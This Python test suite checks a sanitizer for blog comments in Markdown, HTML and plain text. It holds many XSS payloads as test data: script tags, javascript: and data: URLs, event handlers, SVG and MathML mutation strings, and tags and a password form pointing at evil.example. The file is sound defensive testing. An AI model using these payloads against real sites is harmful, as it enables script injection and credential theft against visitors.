"""A comment's HTML: what its writer meant, and nothing that harms a reader; attacks stand by surface."""

import re
from unittest.mock import patch

import html5lib
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markupsafe import Markup

from afterword.discussion.markup import render_body
from afterword.discussion.model import Comment
from afterword.vocabulary import Format

ELEMENTS = set(
    "a abbr b bdi bdo blockquote br caption cite code col colgroup dd del dfn dl dt em hr i ins kbd li ol p"
    " pre q rp rt ruby s samp small span strong sub sup table tbody td tfoot th thead time tr tt u ul var"
    " wbr".split()
)
ATTRIBUTES = set("cite colspan datetime dir href lang rel reversed rowspan scope start title value".split())
FOOTNOTES = {"class", "id", "role", "aria-label", "aria-hidden"}
# What browsers take for a scheme, once they have dropped what they drop.
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):")
DROPPED = str.maketrans("", "", "\t\n\r")
CONTROLS = "".join(map(chr, range(0x21)))


def render(body, form=Format.HTML, **options):
    """Return a body's HTML."""
    return render_body(Comment("wp-1", body=body, format=form), **options)


def elements(html):
    """Return the elements that a browser would make of it."""
    tree = html5lib.parseFragment(str(html), treebuilder="etree", namespaceHTMLElements=False)
    return list(tree.iter())[1:]


def check_harmless(html):
    """Fail unless a browser makes nothing of it but words, their markup, and links to pages and people."""
    for element in elements(html):
        assert element.tag in ELEMENTS, element.tag
        names = set(element.attrib)
        if element.get("class", "").startswith(("fn", "notes")) or element.get("id", "").startswith(
            "n-wp-1-fn"
        ):
            names -= FOOTNOTES
        assert names <= ATTRIBUTES, names
        for name in ("href", "cite"):
            scheme = SCHEME.match(element.get(name, "").strip(CONTROLS).translate(DROPPED).lower())
            assert scheme is None or scheme[1] in {"http", "https", "mailto", "tel"}
        if element.tag == "a" and not element.get("href", "#").startswith("#"):
            assert element.get("rel") == "ugc nofollow noopener"


# What the writer meant


@given(
    st.lists(
        st.sampled_from([*"ab*`<>-#=[]()1. \\\n", "**", "[f](g)", "<p>", "<h2>", "</p>", "&#32;", "&nbsp;"])
    ).map("".join),
    st.sampled_from(Format),
)
@example("&#32;", Format.HTML)
def test_a_simple_body_gets_what_any_other_does(source, form):
    """The short way of the sanitizer leaves out nothing that a comment needs."""
    page = render(source, form)
    with patch("afterword.discussion.markup.sanitize_simple", return_value=None):
        assert page == render(source, form)


def test_the_result_is_markup():
    """Templates need not, and can't, escape it again."""
    assert isinstance(render("x"), Markup)


def test_markdown_is_rendered():
    """Markdown is the default, with typographic quotes and dashes."""
    assert render('He said "*no*" -- twice.', Format.MARKDOWN) == "<p>He said “<em>no</em>” – twice.</p>\n"


def test_html_has_the_paragraphs_that_readers_saw():
    """A blank line is a paragraph, a newline a break."""
    assert render("one\ntwo\n\n<em>three</em>") == "<p>one<br>two</p><p><em>three</em></p>"


def test_text_is_nothing_but_words():
    """In plain text a tag is words, a blank line a paragraph, an address a link."""
    html = render("a <b> & c\nd\n\nhttp://a.example/", Format.TEXT)
    link = '<a href="http://a.example/" rel="ugc nofollow noopener">http://a.example/</a>'
    assert html == f"<p>a &lt;b&gt; &amp; c<br>d</p><p>{link}</p>"


@pytest.mark.parametrize("form", Format)
def test_an_empty_body_is_empty(form):
    """Nothing comes of nothing."""
    assert render("", form) == ""


@pytest.mark.parametrize("form", Format)
def test_newlines_alone_are_empty(form):
    """No empty paragraph is left over."""
    assert render("\n\n \n", form) == ""


def test_links_are_marked_as_a_readers():
    """Every link that leads out carries the three words, whatever it brought along."""
    html = render('<a href="https://a.example/" rel="follow" target="_blank">b</a>')
    assert html == '<p><a href="https://a.example/" rel="ugc nofollow noopener">b</a></p>'


@pytest.mark.parametrize(
    ("body", "form"),
    [
        ("![A cat](https://a.example/b.png)", Format.MARKDOWN),
        ('<img src="https://a.example/b.png" alt="A cat">', Format.HTML),
    ],
)
def test_an_image_is_a_link(body, form):
    """An image calls nobody: it is a link with its alternative text, unless the site allows images."""
    assert 'href="https://a.example/b.png" rel="ugc nofollow noopener">[Image: A cat]</a>' in render(
        body, form
    )
    (image,) = (element for element in elements(render(body, form, images=True)) if element.tag == "img")
    assert image.attrib == {"src": "https://a.example/b.png", "alt": "A cat"}


@pytest.mark.parametrize(
    ("body", "form"),
    [("# Mine {#c-1 .comment}\n\nwords", Format.MARKDOWN), ("<h1 id=c-1>Mine</h1>words", Format.HTML)],
)
def test_a_heading_stays_out_of_the_outline(body, form):
    """A heading in a comment is a paragraph in bold."""
    assert render(body, form).replace("\n", "") == "<p><strong>Mine</strong></p><p>words</p>"


def test_footnotes_of_two_comments_do_not_clash():
    """A comment's footnotes carry its id, and nothing else on the page begins so."""
    body = "a[^1]\n\n[^1]: note"
    one = {e.get("id") for e in elements(render_body(Comment("wp-1", body=body))) if e.get("id")}
    two = {e.get("id") for e in elements(render_body(Comment("wp-2", body=body))) if e.get("id")}
    assert one
    assert not one & two
    assert all(name.startswith("n-wp-1-") for name in one)


def test_a_footnotes_links_lead_somewhere():
    """Every fragment that a footnote leads to is there."""
    made = elements(render("a[^x] b[^y]\n\n[^x]: note\n\n[^y]: more", Format.MARKDOWN))
    targets = {e.get("href") for e in made if e.tag == "a"}
    assert targets == {f"#{e.get('id')}" for e in made if e.get("id")}


@pytest.mark.parametrize("form", Format)
def test_addresses_are_masked(form):
    """E-mail and IP addresses of every format are masked, unless the site wants them shown."""
    body = "ines@mailhost.example, 203.0.113.7"
    assert "ines [at] mailhost…, 203.…" in render(body, form)
    assert body in render(body, form, mask=False)


def test_a_masked_link_keeps_its_words():
    """A `mailto:` link leaves what it said."""
    assert render("<a href='mailto:ines@a.example'>write to me</a>") == "<p>write to me</p>"


# Attacks: each must come out harmless in every format


@pytest.mark.parametrize("form", Format)
@pytest.mark.parametrize(
    "body",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>",
        "<<script>alert(1)//<</script>",
        "<script>\n\n</script><script>alert(1)",
        "</p><script>alert(1)</script>",
    ],
)
def test_scripts(body, form):
    """No script element survives, however it is written."""
    check_harmless(render(body, form))


@pytest.mark.parametrize("form", Format)
@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;avascript&colon;alert(1)",
        "\x01javascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "blob:https://a.example/1",
        "file:///etc/passwd",
        "view-source:javascript:alert(1)",
    ],
)
def test_addresses_that_run(address, form):
    """No link leads to anything but a page, a mailbox or a telephone, in HTML's writing or in Markdown's."""
    check_harmless(render(f'<a href="{address}">x</a>', form))
    check_harmless(render(f"<a href={address}>x</a>", form))
    check_harmless(render(f"[x]({address}) [y](<{address}>) <{address}> [z]\n\n[z]: {address}", form))
    check_harmless(render(f"![x]({address})", form))


@pytest.mark.parametrize("form", Format)
@pytest.mark.parametrize(
    "body",
    [
        '<b onclick="alert(1)">x</b>',
        "<img src=x onerror=alert(1)>",
        "<img src='x'onerror='alert(1)'>",
        "<img/src=x/onerror=alert(1)>",
        '<a href="https://a.example/"onmouseover="alert(1)">x</a>',
        "<p ONLOAD=alert(1)>x</p>",
        '<img alt="`><b onclick=alert(1)>" src=x>',
        '![" onerror="alert(1)](https://a.example/x)',
        '[x](https://a.example/ "\\" onclick=\\"alert(1)")',
        '<a title=">" onclick=alert(1)>x</a>',
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<input autofocus onfocus=alert(1)>",
    ],
)
def test_event_handlers(body, form):
    """No attribute runs anything."""
    check_harmless(render(body, form))


@pytest.mark.parametrize("form", Format)
@pytest.mark.parametrize(
    "body",
    [
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
        "<math href='javascript:alert(1)'>x</math>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=alert(1)&gt;'",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><i id='</style><img onerror=alert(1)>'>",
        "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    ],
)
def test_foreign_content(body, form):
    """Neither SVG nor MathML gets through, nor what hides in the change from one language to the other."""
    check_harmless(render(body, form))


@pytest.mark.parametrize("form", Format)
@pytest.mark.parametrize(
    "body",
    [
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<noscript><noscript><p title='</noscript></noscript><img src=x onerror=alert(1)>'>",
        "<template><img src=x onerror=alert(1)></template>",
        "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
        "<title><p title='</title><script>alert(1)</script>'>",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
        "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
        "<plaintext><script>alert(1)</script>",
        "<table><td><a title='</td></table><img src=x onerror=alert(1)>'>x",
        "<select><option><script>alert(1)</script></select>",
        "<p title='<!--'>x<img title='--><img src=x onerror=alert(1)>'>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version='1.0'?><img src=x onerror=alert(1)>",
        "<a href='x`><img src=x onerror=alert(1)>'>",
    ],
)
def test_text_that_changes_when_it_is_read_again(body, form):
    """What a second parser makes of the result is as harmless as what the first one made."""
    made = render(body, form)
    check_harmless(made)
    tree = html5lib.parseFragment(str(made), treebuilder="etree")
    check_harmless(html5lib.serialize(tree, tree="etree"))
    again = render_body(Comment("wp-1", body=str(made), format=Format.HTML))
    assert again.striptags() == made.striptags()


@pytest.mark.parametrize("form", Format)
@pytest.mark.parametrize(
    "body",
    [
        '<b style="position:fixed;inset:0">x</b>',
        "<style>*{display:none}</style>x",
        "<style>@import '//evil.example/x.css';</style>",
        '<link rel="stylesheet" href="//evil.example/x.css">',
        '<table background="//evil.example/x"><tr><td>x</table>',
        "<center><font size=7 color=red>x</font></center>",
        '<marquee behavior="alternate">x</marquee>',
    ],
)
def test_styles(body, form):
    """A comment looks like a comment."""
    check_harmless(render(body, form))


@pytest.mark.parametrize("form", Format)
@pytest.mark.parametrize(
    "body",
    [
        '<img src="https://evil.example/1.gif" srcset="https://evil.example/2.gif 2x">',
        '<picture><source srcset="https://evil.example/1.webp"><img src="https://evil.example/1.gif"></picture>',
        '<iframe src="https://evil.example/"></iframe>',
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        '<video poster="https://evil.example/1.gif" src="https://evil.example/1.mp4" autoplay></video>',
        '<audio src="https://evil.example/1.mp3" autoplay></audio>',
        '<object data="https://evil.example/1.swf"></object><embed src="https://evil.example/1.swf">',
        '<embed src="javascript:alert(1)"><iframe src="javascript:alert(1)">',
        '<base href="https://evil.example/"><a href="x">x</a>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<form action="https://evil.example/"><input name="password"><button>x</button></form>',
        '<q cite="javascript:alert(1)">x</q><blockquote cite="data:text/html,x">x</blockquote>',
        "![x](https://evil.example/1.gif)",
    ],
)
def test_calls_to_other_machines(body, form):
    """A page with the comment on it fetches nothing that the comment names."""
    check_harmless(render(body, form))


@pytest.mark.parametrize("form", Format)
@pytest.mark.parametrize(
    "body",
    [
        '<p id="comments" class="h-cite c-body">x</p>',
        '<a id="c-wp-2" name="c-wp-2" class="u-url">x</a>',
        '<form id="location"><input name="href"></form>',
        '<span class="fn h-card" itemprop="author" role="alert" tabindex="1">x</span>',
        '<i data-stance="rebuts" hidden aria-hidden="true">x</i>',
        "# x {#comments .h-cite}",
        'a[^1]<i id="c-wp-2" class="comment">x</i>\n\n[^1]: note <b id="n-wp-2-fn1" class="fn-back">x</b>',
    ],
)
def test_names_that_the_page_uses(body, form):
    """No id, name or class of a comment's can be taken for the page's own."""
    made = render(body, form)
    check_harmless(made)
    for element in elements(made):
        assert element.get("id", "n-wp-1-fn").startswith("n-wp-1-fn")
        assert element.get("class", "fn") in {"fn", "fn-ref", "fn-back", "notes"}


@pytest.mark.parametrize("form", Format)
@pytest.mark.parametrize(
    "unit", ["<b>", "<div>", "<blockquote>", "> ", "- ", "<ul><li>", "**a ", "[", "<svg>"]
)
def test_depth(unit, form):
    """A body of 20,000 open elements is rendered, to a depth that any parser bears."""
    check_harmless(render(unit * 20_000 + "x", form))


SOUP = st.sampled_from(
    [
        *"<b> </b> <p> </p> <a </a> href=javascript:alert(1)> <svg> </svg> <math> <mtext> <h1> <img".split(),
        *"<mglyph> <style> </style> <table> <td> <select> <noscript> </noscript> <template> <div>".split(),
        *"src=x onerror=alert(1)> <script> </script> <!-- --> <![CDATA[ ]]> <title> <textarea>".split(),
        *"` * ' \" > < # - \\< &lt;script&gt; &#60; [x](javascript:alert(1)) [^1] a@b.example".split(),
        *[" ", "\n", "\n\n", "\0", '<p title="', "\n\n[^1]: ", "> ", "- ", "<img src=x onerror=alert(1)>"],
    ]
)


@given(st.lists(SOUP, max_size=14).map("".join), st.sampled_from(Format))
def test_any_soup_is_harmless(body, form):
    """However pieces of attacks are put together, what comes out is harmless."""
    check_harmless(render(body, form))
